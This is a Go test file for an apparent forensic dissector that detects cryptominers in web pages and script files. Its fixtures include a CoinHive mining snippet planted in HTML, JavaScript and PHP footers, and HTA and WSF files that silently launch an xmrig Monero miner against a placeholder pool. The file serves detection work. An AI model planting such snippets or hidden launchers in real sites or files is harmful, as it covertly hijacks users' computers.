package webpage_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"lamproom/dissection"
	"lamproom/dissection/dissectiontest"
	"lamproom/dissection/text"
	"lamproom/dissection/webpage"
	"lamproom/evidence"
	"lamproom/observation"
)

const (
	key  = "AbC7dEf2hIjKlMnOpQrStUvWxYz01234"
	mine = `var miner=new CoinHive.Anonymous("` + key + `",{throttle:0.3});miner.start();`
	run  = "xmrig.exe -o pool.example.org:3333 -u worker -p x -k --coin monero"
)

// output collects what a walk gives.
type output struct{ lines []string }

func (o *output) Evidence(ev *evidence.Evidence) {
	o.lines = append(o.lines, fmt.Sprintf("%s %s %s", ev.Name, ev.Kind, ev.Role))
}
func (o *output) Observe(ob observation.Observation) error {
	switch f := ob.Fact.(type) {
	case observation.MinerConfig:
		o.lines = append(o.lines, fmt.Sprintf("%s %s host=%q user=%q", f.Layout, f.Setting, f.Pools[0].Host, f.Pools[0].User.Text))
	case observation.CommandLine:
		if f.Program() == "xmrig.exe" {
			o.lines = append(o.lines, fmt.Sprintf("%s: command %s %s", ob.Where.Evidence.Name, f.Setting, f.Argv[2].Text))
		}
	}
	return nil
}
func (o *output) Damage(d dissection.Damage) { o.lines = append(o.lines, "damage: "+d.Reason) }
func (o *output) Skip(s dissection.Skip)     { o.lines = append(o.lines, "skip: "+s.Reason) }

func TestWalk(t *testing.T) {
	for _, tt := range []struct {
		name, data string
		want       []string
	}{
		{"page.html", `<html><body><script src="https://coinhive.com/lib/coinhive.min.js"></script><script>` + mine + `</script></body></html>`,
			[]string{`coinhive script host="coinhive.com" user="` + key + `"`, "page.html active-html observed"}},
		{"own.html", "<html><p>A long article of many words that people read.</p>\n<script src=/js/a.js></script><script>" + mine + "</script>",
			[]string{`coinhive script host="" user="` + key + `"`, "own.html active-html observed"}},
		{"article.html", "<html><body><p>They put this into pages that people read:</p><pre>&lt;script&gt;" + mine + "&lt;/script&gt;</pre><textarea><script>" + mine + "</script></textarea>",
			[]string{"article.html html reported"}},
		{"off.html", "<html><body><script>\n// " + mine + "\n</script>", []string{`coinhive comment host="" user="` + key + `"`, "off.html active-html observed"}},
		{"site.js", "function a(){}\n" + mine, []string{`coinhive script host="" user="` + key + `"`, "site.js source:javascript observed"}},
		{"footer.php", "<?php get_footer(); ?>\n<script>" + mine + "</script>", []string{`coinhive script host="" user="` + key + `"`, "footer.php source:php observed"}},
		{"a.hta", "<html><head><HTA:APPLICATION WINDOWSTATE=minimize></head><script language=\"VBScript\">\nCreateObject(\"WScript.Shell\").Run \"" + run + "\", 0\n</script></html>",
			[]string{"a.hta!script-1.vbs: command script pool.example.org:3333", "a.hta!script-1.vbs vbscript observed", "a.hta hta observed"}},
		{"a.wsf", "<job id=\"a\">\n<script language=\"JScript\"><![CDATA[\nnew ActiveXObject(\"WScript.Shell\").Run(\"" + run + "\");\n]]></script></job>",
			[]string{"a.wsf!script-1.js: command code pool.example.org:3333", "a.wsf!script-1.js source:javascript observed", "a.wsf wsf observed"}},
		{"enc.hta", "<hta:application/><script language=\"VBScript.Encode\">#@~^CAAAAA==x</script>",
			[]string{"damage: a script in the encoding of Microsoft's script encoder was not decoded", "enc.hta!script-1.vbs vbscript observed", "enc.hta hta observed"}},
		{"ajax.html", "<html><script>var x = new ActiveXObject(\"Microsoft.XMLHTTP\"); x.open('GET', '/a')</script><p>Words.</p>", []string{"ajax.html html reported"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			o := &output{}
			w := dissection.Walker{Dissectors: []dissection.Dissector{webpage.New(text.New()), text.New(), text.NewData()}, Budget: dissection.DefaultBudget()}
			if err := w.Walk(t.Context(), &evidence.Evidence{Name: tt.name}, strings.NewReader(tt.data), o); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, o.lines); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestConformance(t *testing.T) {
	dissectiontest.Run(t, webpage.New(text.New()),
		dissectiontest.Sample{Name: "a.html", Data: []byte(`<html><script src="https://coinhive.com/lib/a.js"></script><script>` + mine + `</script><script language=vbscript>x</script>`)},
		dissectiontest.Sample{Name: "a.hta", Data: []byte("<hta:application/><script language=\"VBScript.Encode\">#@~^\nRun \"" + run + "\"</script>")},
		dissectiontest.Sample{Name: "plain.html", Data: []byte("<html><p>nothing</p></html>")})
}
